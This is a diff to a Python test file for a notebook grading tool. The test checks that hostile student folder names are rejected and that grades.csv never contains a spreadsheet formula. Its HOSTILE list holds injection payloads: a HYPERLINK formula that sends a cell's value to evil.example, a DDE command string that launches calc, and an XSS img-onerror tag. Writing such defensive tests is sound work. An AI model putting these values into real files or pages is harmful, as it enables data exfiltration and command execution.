@@ -1,6 +1,6 @@
 """Student ids are data, never patterns, and grades.csv runs no formula.
 
-Unit tests of grading/ids.py, then a 01-slope class with hostile folder names beside `mallet`, whose
+Unit tests of gdgrade/untrusted/ids.py, then a 01-slope class with hostile folder names beside `mallet`, whose
 submission is flagged for review: the names are refused with their reasons, mallet keeps its grade
 and its flag, the run, grades.csv and the report complete, and no cell of grades.csv is a formula.
 """
@@ -9,18 +9,16 @@ from __future__ import annotations
 
 import csv
 import os
-import shutil
 
 import nbformat
 import pytest
 from nbgrader.api import Gradebook
 
-from coursekit import require_sandbox
-from grading import batch
-from grading.course import ROOT, course_api, course_config
-from grading.export import Grades, GradedCell, write_csv
-from grading.ids import csv_safe, id_problem, printable
-from grading.submissions import answered, read
+from coursekit import answered, new_course, read, require_sandbox
+from gdgrade import batch
+from gdgrade.course import course_api, course_config
+from gdgrade.export import Grades, GradedCell, write_csv
+from gdgrade.untrusted.ids import csv_safe, id_problem, printable
 
 HOSTILE = ["[m]allet", "*", '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&B3,"grades")',
            "@SUM(1+9)*cmd|' -C calc'!A0", "+1", "-2", " padded", "tab\there", "<img src=x onerror=alert(1)>"]
@@ -66,7 +64,7 @@ def test_hostile_folders_never_touch_another_student_or_stop_the_run(tmp_path) -
     """[m]allet, *, formulas and bad bytes are refused; mallet keeps grade and flag; csv and report are whole."""
     require_sandbox()
     root = tmp_path / "course"
-    shutil.copytree(ROOT / "solutions" / "01-slope", root / "solutions" / "01-slope")
+    new_course(root, ["01-slope"])
     assert course_api(root).generate_assignment("01-slope", force=True, create=True)["success"]
     released = read(root / "notebooks" / "01-slope" / "01-slope.ipynb")
     solved = answered(released, read(root / "solutions" / "01-slope" / "01-slope.ipynb"))
